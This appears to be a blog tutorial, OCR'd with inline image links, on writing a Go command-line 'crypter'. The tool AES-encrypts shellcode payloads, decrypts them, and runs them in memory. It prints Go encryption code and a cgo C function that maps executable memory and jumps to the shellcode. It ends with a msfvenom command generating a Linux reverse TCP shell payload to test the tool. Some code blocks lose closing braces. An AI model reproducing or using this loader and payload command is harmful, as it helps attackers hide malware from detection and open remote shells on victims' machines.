The goal for this post will be to demonstrate how to write a sort of crypter that will work as a command line utility allowing us to:

Encrypt a file (it’s aimed for shellcode payloads but that’s irrelevant) Decrypt a file Run shellcode

2.Step One: Encrypt

I choose AES as the cipher. The code looks like this (full source can be found on GitHub):

func Encrypt(key []byte, text[]byte) ([]byte, error) {
 // Init Cipher
 block, err := aes.NewCipher(key)
 if err != nil {
   return nil, err
 // Padding
 paddingLen := aes.BlockSize - (len(text) % aes.BlockSize)
 paddingText := bytes.Repeat([]byte{byte(paddingLen)}, paddingLen)
 textWithPadding := append(text, paddingText...)
 // Getting an IV
 ciphertext := make([]byte, aes.BlockSize+len(textWithPadding))iv := ciphertext[:aes.BlockSize]
 // Randomness
 if _, err := io.ReadFull(rand.Reader, iv); err != nil {
   return nil, err
 // Actual encryption
 cfbEncrypter := cipher.NewCFBEncrypter(block, iv)
 cfbEncrypter.XORKeyStream(ciphertext[aes.BlockSize:], textWithPadding)
 return ciphertext, nil

The function just creates an AES cipher, then calculates the padding needed and proceeds to encrypt the payload.

3.Step Two: DecryptNow we need to implement the reverse function (again, full source code on Github):

func Decrypt(key []byte, text []byte) ([]byte, error) {
  // Init decipher
  block, err := aes.NewCipher(key)
  if err != nil {
    return nil, err
  if (len(text) % aes.BlockSize) != 0 {
    return nil, errors.New("wrong blocksize")
  // Getting the IV
  iv := text[:aes.BlockSize]
  // Actual decryption
  decodedCipherMsg := text[aes.BlockSize:]
  cfbDecrypter := cipher.NewCFBDecrypter(block, iv)
  cfbDecrypter.XORKeyStream(decodedCipherMsg, decodedCipherMsg)
  // Removing Padding
  length := len(decodedCipherMsg)
  paddingLen := int(decodedCipherMsg[length-1])
  result := decodedCipherMsg[:(length - paddingLen)]
  return result, nil

4.Step Three: RunAs we are using Go (which does not allow raw bytes execution by default) and the shellcode provided was written for the C stack we need to find a way to execute C code in Go. This can be accomplished by using the “C” package and unsafe pointers.

In C we’d do something like this:

fp = (void *)shellcode

While in Go we need to use some tricks. We’ll use the unsafe package a special pointer that will allow us to use unsafe features:

import "unsafe"
func Run(shellcode []byte) {
  ptr := &shellcode[0]

Then we add the C package, write our C code as a comment right above the import and use the defined function to execute the unsafe pointer. This will behave as the C code presented earlier:

#include <stdio.h>
#include <sys/mman.h>
#include <string.h>
#include <unistd.h>
void execute(char *shellcode, size_t length) {
  unsigned char *ptr;
  ptr = (unsigned char *) mmap(0, length, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_ANONYMOUS | MAP_PRIVATE, -1, 0);
  memcpy(ptr, shellcode, length);
  ( *(void(*) ()) ptr)();
import "C"
import ("unsafe")
func Run(shellcode []byte) {
  ptr := &shellcode[0]
  size := len(shellcode)
  C.execute((*C.char)(unsafe.Pointer(ptr)), (C.size_t)(size))

Yes, it’s ugly, I know… but you are running unsafe C code inside Go. It should be ugly. Fullsource code for this package can be found here.

5.Step Four: CLI

Now that we have the meaty part ready we’ll need to implement some methods to facilitate the tool usage. I implemented some functions to allow the user to fire the encryption, decryption and “decrypt & run” routines using various sets of options.

I won’t go into details for this part as it just reads the parameters provided from os.Args[] and determines which function to execute depending on the input. Source code can be found here.

gocrypt {action} {key} {file}
Action can be:Encryption:     --encrypt -e encrypt e
  Decryption:     --decrypt -d decrypt d
  Decrypt & Run:  --run     -r run     r
Key: must be 16, 24 or 32 chars long
File: must be a valid path

6.Step Five: Show

We can getthe raw bytes for a reverse TCPshell from Metasploit issuing:

msfvenom -a x64 –platform linux -p linux/x64/shell_reverse_tcp LHOST= LPORT=4444 > msfvemonpayload After that, we can use the payload to test ourcrypter. It’s show time!